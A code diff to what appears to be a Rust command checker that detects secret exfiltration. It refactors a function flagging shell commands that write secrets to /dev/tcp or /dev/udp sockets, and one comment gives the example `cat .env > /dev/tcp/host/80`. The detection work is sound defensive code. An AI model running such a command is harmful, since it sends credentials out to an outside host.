@@ -10,11 +10,10 @@
 
 use super::{Applies, Checker, DENY, Report, no_command_check};
 use crate::args::{self, Options};
-use crate::command::{Analysis, Command, CommandId, Input, Output, RedirectOperator};
+use crate::command::{Analysis, Command, Input, Output, RedirectOperator};
 use crate::context::Context;
 use crate::files;
 use crate::paths::{self, Target};
-use crate::producers;
 use crate::rules::Rule;
 use crate::word::{DynamicKind, Word};
 
@@ -60,7 +59,7 @@ pub static SECRET_EXFILTRATION: Rule = Rule {
 fn check_all(analysis: &Analysis, context: &Context, report: &mut Report) {
     for (id, command) in analysis.commands.iter().enumerate() {
         report.command = Some(id);
-        let found = leak(id, command, analysis, context);
+        let found = leak(command, context);
         if let Some((what, span)) = found {
             report.flag(
                 &SECRET_EXFILTRATION,
@@ -84,20 +83,15 @@ fn shown_name(command: &Command) -> &str {
 }
 
 /// The secret a command sends over the network, and where the command says so.
-fn leak(
-    id: CommandId,
-    command: &Command,
-    analysis: &Analysis,
-    context: &Context,
-) -> Option<(String, crate::source::Span)> {
+fn leak(command: &Command, context: &Context) -> Option<(String, crate::source::Span)> {
     // Written to a network socket: `cat .env > /dev/tcp/host/80`.
     for redirect in &command.redirects {
         let socket = redirect.target.text().starts_with("/dev/tcp/") || redirect.target.text().starts_with("/dev/udp/");
         if socket
             && matches!(redirect.operator, RedirectOperator::Write | RedirectOperator::Append)
-            && let Output::Secret(what) = producers::output(id, analysis, context)
+            && let Output::Secret(what) = &command.output
         {
-            return Some((what, redirect.span));
+            return Some((what.clone(), redirect.span));
         }
     }
     let sender = Sender::of(command)?;
